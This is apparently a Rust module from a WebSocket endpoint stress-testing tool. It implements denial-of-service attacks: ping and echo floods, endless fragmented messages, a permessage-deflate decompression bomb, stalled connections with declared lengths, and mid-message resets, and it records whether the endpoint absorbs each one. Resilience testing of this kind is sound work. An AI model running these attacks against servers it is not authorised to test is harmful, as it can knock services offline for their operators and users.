//! Attacks after the opening handshake.

use longwire_wire::bits::{BINARY, FIN, RSV1};
use longwire_wire::{DeclaredLen, RawFrame, Role};

use super::connection::{AttackConnection, Attacker, Heard, Reads, Written};
use super::handshakes::in_parallel;
use crate::cost::figures::Mebibytes;
use crate::deflate::{Agreement, Deflater};

/// How much is sent at a time.
const CHUNK: usize = 64 << 10;

/// How many connections declare lengths.
const DECLARING: usize = 100;

/// How many clients reset their connections at a time, and how many connections there are at all.
const RESETTING: usize = 8;
const MOST: u64 = 2_000;

/// What stands between the parts of a compressed message that were flushed (RFC 7692 §7.2.1).
const FLUSHED: [u8; 4] = [0, 0, 0xff, 0xff];

/// Pings whose pongs nobody reads.
pub(super) async fn ping_flood(attacker: Attacker) {
    let pings = repeated(&RawFrame::ping(vec![b'p'; 125]));
    while attacker.effort.goes_on() {
        let Some((mut connection, _)) = attacker.open(None).await else { continue };
        flood(&attacker, &mut connection, &pings, Reads::Nothing).await;
    }
}

/// Messages whose echoes nobody reads.
pub(super) async fn echo_unread(attacker: Attacker) {
    let message = repeated(&RawFrame::binary(vec![b'e'; CHUNK]));
    while attacker.effort.goes_on() {
        let Some((mut connection, _)) = attacker.open(None).await else { continue };
        flood(&attacker, &mut connection, &message, Reads::Nothing).await;
        if connection.sent >= attacker.setting.attack.bytes {
            let what = Mebibytes(connection.sent);
            attacker
                .effort
                .note_taken(format!("it took {what} whose echoes were not read: it keeps or drops them"));
        }
    }
}

/// A message in fragments of this length, without an end.
pub(super) async fn endless_message(attacker: Attacker, fragment_len: usize) {
    let first = RawFrame::binary(vec![b'f'; fragment_len]).not_final().encode(Role::Client);
    let fragments = repeated(&RawFrame::continuation(vec![b'f'; fragment_len]).not_final());
    let bytes = attacker.setting.attack.bytes;
    while attacker.effort.goes_on() {
        let Some((mut connection, _)) = attacker.open(None).await else { continue };
        if connection.send(&first, Reads::Everything).await == Written::All {
            flood(&attacker, &mut connection, &fragments, Reads::Everything).await;
        }
        // Empty fragments need no memory, and a fragment of a byte may be charged for its header.
        if connection.sent >= bytes / 2 && fragment_len > 1 {
            let what = Mebibytes(connection.sent);
            attacker.effort.note_taken(format!("it took {what} of one message"));
        }
    }
}

/// Messages that inflate to as many bytes as the attack may send.
pub(super) async fn bomb(attacker: Attacker) {
    let len = attacker.setting.attack.bytes;
    let mut made: Option<(Agreement, Vec<u8>)> = None;
    while attacker.effort.goes_on() {
        let Some((mut connection, response)) = attacker.open(Some("permessage-deflate")).await else {
            continue;
        };
        let agreement = response.field("Sec-WebSocket-Extensions").and_then(Agreement::parse);
        let Some(agreement) = agreement else { return };
        let (_, bytes) = match made.take() {
            Some(made_before) if made_before.0 == agreement => made.insert(made_before),
            _ => made.insert((agreement, bomb_and_ping(agreement, len))),
        };
        if connection.send(bytes, Reads::Everything).await != Written::All {
            continue;
        }
        let is_taken = |skimmer: &super::skimmer::Skimmer| skimmer.has_pong || skimmer.has_data;
        if connection.hear(is_taken).await == Heard::This {
            let (inflated, sent) = (Mebibytes(len), bytes.len());
            attacker
                .effort
                .note_taken(format!("it took a message of {sent} bytes that inflates to {inflated}"));
        }
    }
}

/// Many connections on which a message begins whose length is declared. Nothing follows. An endpoint may refuse the longer
/// ones; most take a message of 1 MiB.
pub(super) async fn declared_lengths(attacker: Attacker) {
    tokio::join!(declaring(attacker.clone(), 1 << 20), declaring(attacker, 16 << 20));
}

async fn declaring(attacker: Attacker, len: u64) {
    in_parallel(DECLARING / 2, attacker, move |attacker: Attacker| async move {
        let frame = RawFrame::new(FIN | BINARY, "abc").declaring(DeclaredLen::Shortest(len));
        let Some((mut connection, _)) = attacker.open(None).await else { return };
        if connection.send(&frame.encode(Role::Client), Reads::Everything).await == Written::All {
            let _until_the_end = connection.hear(|_| false).await;
        }
    })
    .await;
}

/// Connections that are dropped in the middle of a message. A byte of the pong before is read and others are not, so the
/// operating system resets the connection (RFC 9293 §3.10.4).
pub(super) async fn resets(attacker: Attacker) {
    in_parallel(RESETTING, attacker, |attacker: Attacker| async move {
        let ping = RawFrame::ping(vec![b'p'; 125]).encode(Role::Client);
        let message = RawFrame::binary(vec![b'm'; CHUNK]).encode(Role::Client);
        let half = message.get(..CHUNK / 2).unwrap_or_default();
        while attacker.effort.goes_on() && attacker.effort.connections() < MOST {
            let Some((mut connection, _)) = attacker.open(None).await else { continue };
            if connection.send(&[&ping, half].concat(), Reads::Nothing).await == Written::All {
                connection.hear_a_byte().await;
            }
        }
    })
    .await;
}

/// Sends the same bytes until the attack is over or the endpoint ends the connection.
async fn flood(attacker: &Attacker, connection: &mut AttackConnection, bytes: &[u8], reads: Reads) {
    while attacker.effort.goes_on() && connection.send(bytes, reads).await == Written::All {}
}

/// The bytes of a frame, again and again, about as many as are sent at a time.
fn repeated(frame: &RawFrame) -> Vec<u8> {
    let one = frame.encode(Role::Client);
    one.repeat((CHUNK / one.len().max(1)).max(1))
}

/// A message that inflates to so many bytes, and a ping.
fn bomb_and_ping(agreement: Agreement, len: u64) -> Vec<u8> {
    let message = RawFrame::new(FIN | RSV1 | BINARY, zeros(agreement, len)).encode(Role::Client);
    [message, RawFrame::ping("taken?").encode(Role::Client)].concat()
}

/// The payload of a compressed message of so many zeros. Its parts are the same, so only two are compressed.
fn zeros(agreement: Agreement, len: u64) -> Vec<u8> {
    const PART: u64 = 1 << 20;
    let part = vec![0; 1 << 20];
    let mut deflater = Deflater::of(Role::Client, agreement);
    let mut payload = deflater.compress(&part);
    let other = deflater.compress(&part);
    for _part in 1..len.div_ceil(PART) {
        payload.extend(FLUSHED);
        payload.extend(&other);
    }
    payload
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deflate::Inflater;

    #[test]
    fn a_bomb_inflates_to_what_it_should() {
        for offer in ["permessage-deflate", "permessage-deflate; client_no_context_takeover"] {
            let agreement = Agreement::parse(offer).unwrap();
            let payload = zeros(agreement, 8 << 20);
            assert!(payload.len() < 16 << 10, "{}", payload.len());
            assert_eq!(Inflater::of(Role::Client, agreement).inflate(&payload).unwrap(), vec![0; 8 << 20]);
        }
    }
}
